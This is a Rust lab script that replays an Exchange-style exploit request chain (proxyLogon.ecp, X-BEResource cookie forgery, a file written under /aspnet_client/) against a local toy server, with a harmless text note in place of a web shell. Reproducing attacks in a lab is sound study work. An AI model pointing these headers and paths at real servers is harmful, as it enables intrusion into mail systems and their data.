// Rust port of the lab request chain (reqwest, blocking); talks to the local toy server only.
use reqwest::blocking::Client;
use reqwest::header::{HeaderMap, HeaderName, HeaderValue};
use std::time::Duration;

const USER_AGENT: &str = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36";
const NOTE_PATH: &str = "/aspnet_client/system_web/readme_91453.txt";
const COOKIE: &str = "X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522";

fn headers(pairs: &[(&'static str, &str)]) -> HeaderMap {
    let mut map = HeaderMap::new();
    for (name, value) in pairs {
        map.insert(HeaderName::from_static(name), HeaderValue::from_str(value).unwrap());
    }
    map
}

fn browser() -> Vec<(&'static str, &'static str)> {
    vec![
        ("user-agent", USER_AGENT),
        ("x-requested-with", "XMLHttpRequest"),
        ("accept", "*/*"),
        ("accept-language", "en-US,en;q=0.9"),
        ("connection", "close"),
    ]
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let port = std::env::args().nth(1).unwrap_or_else(|| "8080".to_string());
    let base = format!("http://127.0.0.1:{}", port);
    let client = Client::builder().timeout(Duration::from_secs(10)).build()?;

    let pad = "A".repeat(37);
    let query = [
        ("Pad", pad.as_str()),
        ("Protocol", "Autodiscoverv1"),
        ("Email", "administrator@lab.invalid/mapi/nspi"),
        ("RequestId", "20200302-7720"),
    ];
    let mut probe = browser();
    probe.push(("cookie", COOKIE));
    let first = client
        .get(format!("{}/autodiscover/autodiscover.json", base))
        .query(&query)
        .headers(headers(&probe))
        .send()?;
    if first.status().as_u16() >= 500 {
        std::process::exit(1);
    }

    let ident = client
        .post(format!("{}/ecp/proxyLogon.ecp", base))
        .headers(headers(&[
            ("user-agent", USER_AGENT),
            ("msexchlogonmailbox", "S-1-5-20"),
            ("content-type", "application/json"),
            ("x-beresource", "localhost@lab.invalid/ecp/proxyLogon.ecp"),
        ]))
        .body(r#"{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}"#)
        .send()?;
    let who = ident.text().unwrap_or_default().trim().to_string();
    let who = if who.is_empty() { "anonymous".to_string() } else { who };

    let text: Vec<String> = (1..=3).map(|i| format!("note {} of 3 for {}", i, who)).collect();
    client
        .post(format!("{}{}", base, NOTE_PATH))
        .headers(headers(&[
            ("user-agent", USER_AGENT),
            ("x-note-path", NOTE_PATH),
            ("content-type", "text/plain"),
        ]))
        .body(text.join("\n"))
        .send()?;
    let back = client.get(format!("{}{}", base, NOTE_PATH)).headers(headers(&browser())).send()?;
    println!("{}", back.text()?.len());
    Ok(())
}
